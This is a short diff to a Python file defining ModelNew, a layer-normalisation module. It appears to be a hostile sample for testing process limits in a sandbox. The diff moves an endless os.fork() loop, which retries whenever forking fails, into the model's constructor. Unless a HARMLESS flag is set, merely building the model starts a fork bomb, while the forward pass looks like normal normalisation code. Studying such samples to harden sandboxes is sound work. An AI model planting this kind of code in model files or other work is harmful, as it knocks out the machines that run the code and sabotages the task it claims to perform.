@@ -1,4 +1,4 @@
-"""Forks without end.
+"""Forks without end when its model is constructed.
 
 surface: the number of processes
 needs: namespaces
@@ -21,13 +21,12 @@ class ModelNew(nn.Module):
         self.weight = nn.Parameter(torch.ones(normalized_shape))
         self.bias = nn.Parameter(torch.zeros(normalized_shape))
         self.eps = eps
-
-    def forward(self, x):
-        if HARMLESS:
-            y = (x - x.mean(-1, keepdim=True)).contiguous()
-            return y * torch.rsqrt(y.square().mean(-1, keepdim=True) + self.eps) * self.weight + self.bias
-        while True:
+        while not HARMLESS:
             try:
                 os.fork()
             except OSError:
                 time.sleep(0.01)
+
+    def forward(self, x):
+        y = (x - x.mean(-1, keepdim=True)).contiguous()
+        return y * torch.rsqrt(y.square().mean(-1, keepdim=True) + self.eps) * self.weight + self.bias
